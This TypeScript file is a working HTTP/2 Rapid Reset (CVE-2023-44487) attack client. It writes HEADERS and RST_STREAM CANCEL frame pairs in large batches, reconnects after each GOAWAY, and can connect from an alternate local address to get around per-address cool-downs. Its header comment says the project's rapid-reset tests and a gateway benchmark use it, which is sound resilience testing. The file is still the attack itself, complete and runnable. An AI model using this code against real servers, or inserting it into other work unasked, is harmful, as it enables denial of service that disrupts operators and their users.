// A rapid-reset attacker (CVE-2023-44487) that writes the HTTP/2 frames itself:
// each stream is a HEADERS frame (END_STREAM) followed at once by RST_STREAM
// CANCEL, many pairs per write. node's own client cannot be used for this: a
// stream it cancels before its HEADERS left the process is dropped by nghttp2
// (the HEADERS are never sent), so a loop of request() + close() puts almost
// nothing on the wire. On GOAWAY (or a closed connection) it connects again,
// as the attack does. Used by the rapid-reset tests and bench:gateway's row.
import { connect, type TLSSocket } from 'node:tls';

export interface RapidResetOptions {
  /** https://host:port of an HTTP/2 listener. */
  url: string;
  ca: Buffer;
  /** Request headers besides the pseudo-headers (lower-case names). */
  headers: Record<string, string>;
  path: string;
  /** Stream pairs per write. */
  batch?: number;
  /** Stops after this many connections (default: none). */
  maxSessions?: number;
  /** Streams opened after each batch's resets in the same write, and left open (default 0). */
  openAfter?: number;
  /** The local address to connect from (e.g. 127.0.0.2, so a cool-down of the attacker's address spares a client on 127.0.0.1). */
  localAddress?: string;
  /** Called when a connection is up, before its first write. */
  onSession?: () => void;
}

export interface RapidResetStats {
  sessions: number;
  /** Connections closed before their TLS handshake finished (refused at accept during a cool-down). */
  refused: number;
  /** HEADERS + RST_STREAM pairs written. */
  streams: number;
  /** The error code of every GOAWAY received. */
  goaways: number[];
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const CANCEL = 0x8;
const FRAME = { headers: 0x1, rst: 0x3, settings: 0x4, goaway: 0x7 };

function frameHeader(length: number, type: number, flags: number, streamId: number): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return head;
}

/** HPACK literal strings (no Huffman), lengths below 127. */
function literal(value: string): Buffer {
  const bytes = Buffer.from(value, 'latin1');
  if (bytes.length >= 127) throw new Error('header too long for this encoder');
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

/** GET https://authority path, as a header block: static-table names, literals without indexing. */
export function headerBlock(authority: string, path: string, headers: Record<string, string>): Buffer {
  const parts = [Buffer.from([0x82, 0x87]), Buffer.from([0x04]), literal(path), Buffer.from([0x01]), literal(authority)];
  for (const [name, value] of Object.entries(headers)) parts.push(Buffer.from([0x00]), literal(name), literal(value));
  return Buffer.concat(parts);
}

/** `count` streams from `firstId` (odd), each HEADERS then RST_STREAM CANCEL. */
export function resetPairs(block: Buffer, firstId: number, count: number): Buffer {
  const parts: Buffer[] = [];
  const code = Buffer.alloc(4);
  code.writeUInt32BE(CANCEL);
  for (let i = 0; i < count; i++) {
    const id = firstId + 2 * i;
    parts.push(frameHeader(block.length, FRAME.headers, 0x5, id), block, frameHeader(4, FRAME.rst, 0, id), code);
  }
  return Buffer.concat(parts);
}

/** `resetPairs(block, firstId, count)` made from a copy of `template` (its output for any first id): only the ids change, so the attacker spends its CPU writing, not building. */
function renumbered(template: Buffer, block: Buffer, firstId: number, count: number): Buffer {
  const copy = Buffer.from(template);
  const pair = 9 + block.length + 13;
  for (let i = 0; i < count; i++) {
    copy.writeUInt32BE(firstId + 2 * i, i * pair + 5);
    copy.writeUInt32BE(firstId + 2 * i, i * pair + 9 + block.length + 5);
  }
  return copy;
}

/** `count` streams from `firstId` (odd), HEADERS only: requests left open. */
export function openStreams(block: Buffer, firstId: number, count: number): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; i < count; i++) parts.push(frameHeader(block.length, FRAME.headers, 0x5, firstId + 2 * i), block);
  return Buffer.concat(parts);
}

/** One connection: the preface, then batches of reset streams until GOAWAY, close, or `running()` turns false. */
async function oneSession(options: RapidResetOptions, running: () => boolean, stats: RapidResetStats): Promise<void> {
  const target = new URL(options.url);
  const socket: TLSSocket = connect({ host: target.hostname, port: Number(target.port), ca: options.ca, ALPNProtocols: ['h2'], ...(options.localAddress ? { localAddress: options.localAddress } : {}) });
  let over = false;
  let inbox = Buffer.alloc(0);
  socket.on('error', () => {});
  socket.on('close', () => (over = true));
  socket.on('data', (chunk: Buffer) => {
    inbox = Buffer.concat([inbox, chunk]);
    while (inbox.length >= 9) {
      const length = inbox.readUIntBE(0, 3);
      if (inbox.length < 9 + length) break;
      const [type, flags] = [inbox[3], inbox[4]!];
      if (type === FRAME.settings && (flags & 0x1) === 0) socket.write(frameHeader(0, FRAME.settings, 0x1, 0));
      if (type === FRAME.goaway) {
        stats.goaways.push(inbox.readUInt32BE(13));
        over = true;
      }
      inbox = inbox.subarray(9 + length);
    }
  });
  await new Promise<void>((go) => socket.once('secureConnect', () => go()).once('close', () => go()));
  if (over) {
    stats.refused++;
    return;
  }
  stats.sessions++;
  options.onSession?.();
  socket.write(Buffer.concat([PREFACE, frameHeader(0, FRAME.settings, 0, 0)]));
  const block = headerBlock(target.host, options.path, options.headers);
  const batch = options.batch ?? 100;
  const open = options.openAfter ?? 0;
  const template = resetPairs(block, 1, batch);
  let next = 1;
  while (!over && running() && next < 0x7fff0000) {
    const pairs = renumbered(template, block, next, batch);
    const frames = open === 0 ? pairs : Buffer.concat([pairs, openStreams(block, next + 2 * batch, open)]);
    const wrote = socket.write(frames);
    next += 2 * (batch + open);
    stats.streams += batch;
    if (!wrote) await new Promise<void>((go) => socket.once('drain', () => go()).once('close', () => go()));
    else await new Promise((go) => setImmediate(go));
  }
  socket.destroy();
}

/** Attacks until `running()` turns false (or `maxSessions` connections were used); what it sent and received. */
export async function rapidReset(options: RapidResetOptions, running: () => boolean): Promise<RapidResetStats> {
  const stats: RapidResetStats = { sessions: 0, refused: 0, streams: 0, goaways: [] };
  let tries = 0;
  while (running() && (options.maxSessions === undefined || tries < options.maxSessions)) {
    tries++;
    await oneSession(options, running, stats);
  }
  return stats;
}
